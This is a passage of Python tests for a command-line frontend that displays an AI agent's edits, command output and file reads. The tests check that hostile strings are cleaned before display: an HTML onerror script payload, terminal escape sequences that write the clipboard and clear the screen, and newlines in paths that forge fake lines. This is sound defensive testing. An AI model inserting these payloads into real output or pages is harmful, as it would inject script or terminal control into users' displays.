    diff (cut at DETAIL_DIFF_LINES) and the last DETAIL_OUTPUT_LINES lines of its output, every
    line cleaned (hostile path, new text and output stay text on their own lines)."""
    from acp_kernel.frontends.cli import DETAIL_DIFF_LINES, DETAIL_OUTPUT_LINES

    evil = "<img src=x onerror=alert(1)> $x$ `a\nb` \x1b]52;c;cHduZWQ=\x07\x1b[2J"
    path = "/tmp/a\n# not a heading.py"
    big_new = "".join(f"new line {i}\n" for i in range(3 * DETAIL_DIFF_LINES))
    output = "".join(f"output line {i}\n" for i in range(50)) + evil
    scenario = {"prompt": [
        _update(sessionUpdate="tool_call", toolCallId="e1", title="Edit", kind="edit", status="completed",
                content=[{"type": "diff", "path": path, "oldText": "old\n", "newText": evil + "\n"}]),
        _update(sessionUpdate="tool_call", toolCallId="e2", title="Big edit", kind="edit", status="completed",
                content=[{"type": "diff", "path": "/tmp/big.py", "oldText": None, "newText": big_new}]),
        _update(sessionUpdate="tool_call", toolCallId="r1", title="Run", kind="execute", status="completed",
                content=[{"type": "content", "content": {"type": "text", "text": output}}]),
        {"chunk": "done\n"},
    ]}
    res = subprocess.run(_argv(scenario), capture_output=True, timeout=TIMEOUT, env=_env(tmp_path),
                         stdin=subprocess.DEVNULL)
    assert res.returncode == 0, res.stderr
    _assert_clean_bytes(res.stdout + res.stderr)
    err = res.stderr.decode().splitlines()
    edit = err.index("[tool] edit: Edit (completed)")
    assert err[edit + 1:edit + 6] == ["    --- /tmp/a␊# not a heading.py", "    +++ /tmp/a␊# not a heading.py",
                                      "    @@ -1 +1,2 @@", "    -old", "    +<img src=x onerror=alert(1)> $x$ `a"]
    assert err[edit + 6].startswith("    +b` ")  # the agent's newline is a diff line of its own, indented
    big = err.index("[tool] edit: Big edit (completed)")
    shown = [x for x in err[big + 1:] if x.startswith("    +new line")]
    assert len(shown) == DETAIL_DIFF_LINES - 3  # the limit counts the two headers and the hunk line
    assert f"    ... the diff goes on (+{3 * DETAIL_DIFF_LINES} -0 in all)" in err
    run = err.index("[tool] execute: Run (completed)")
    tail = err[run + 1:run + 2 + DETAIL_OUTPUT_LINES]
    assert tail[0].startswith("    ... ") and tail[0].endswith(" lines above")
    assert tail[1:-2] == [f"    output line {i}" for i in range(52 - DETAIL_OUTPUT_LINES, 50)]
    assert tail[-2].startswith("    <img src=x onerror=alert(1)> $x$ `a") and tail[-1].startswith("    b` ")


def test_a_completed_read_is_its_line_and_what_it_returned_only_when_asked(tmp_path):
    """A completed read is one line in the text CLI (the agent's own UIs show a read so): the
    file it returned is printed under it only with --show-reads, cleaned as any output. A
    failed read still says what it returned; --format json has every read's content."""
    evil = "<img src=x onerror=alert(1)> $x$ `a\nb` \x1b]52;c;cHduZWQ=\x07\x1b[2J"

    def read(cid: str, status: str, text: str) -> dict:
        return _update(sessionUpdate="tool_call", toolCallId=cid, title=f"Read /tmp/a\n{cid}.py", kind="read",
                       status=status, content=[{"type": "content", "content": {"type": "text", "text": text}}])

    scenario = {"prompt": [read("r1", "completed", "SECRET FILE LINE\n" + evil),
                           read("r2", "failed", "no such file: /tmp/a\n" + evil),
                           read("r3", "pending", "NOT YET"),
                           _update(sessionUpdate="tool_call_update", toolCallId="r3", status="completed"),
                           {"chunk": "done\n"}]}
    runs = {}
    for extra in ((), ("--show-reads",), ("--format", "json")):
        res = subprocess.run(_argv(scenario, *extra), capture_output=True, timeout=TIMEOUT, env=_env(tmp_path),
                             stdin=subprocess.DEVNULL)
        assert res.returncode == 0, res.stderr
        _assert_clean_bytes(res.stdout + res.stderr)
        runs[extra] = res
    err = runs[()].stderr.decode().splitlines()
    r1 = err.index("[tool] read: Read /tmp/a␊r1.py (completed)")
    assert not err[r1 + 1].startswith("    ")  # nothing under it
    assert not any("SECRET" in x or "NOT YET" in x for x in err), err
    r2 = err.index("[tool] read: Read /tmp/a␊r2.py (failed)")
    assert err[r2 + 1:r2 + 3] == ["    no such file: /tmp/a", "    <img src=x onerror=alert(1)> $x$ `a"]
    shown = runs[("--show-reads",)].stderr.decode().splitlines()
    r1 = shown.index("[tool] read: Read /tmp/a␊r1.py (completed)")
    assert shown[r1 + 1:r1 + 3] == ["    SECRET FILE LINE", "    <img src=x onerror=alert(1)> $x$ `a"]
    assert shown[r1 + 3].startswith("    b` ")
    assert "    NOT YET" in shown
    out = runs[("--format", "json")].stdout.decode()
    assert "SECRET FILE LINE" in out and "NOT YET" in out
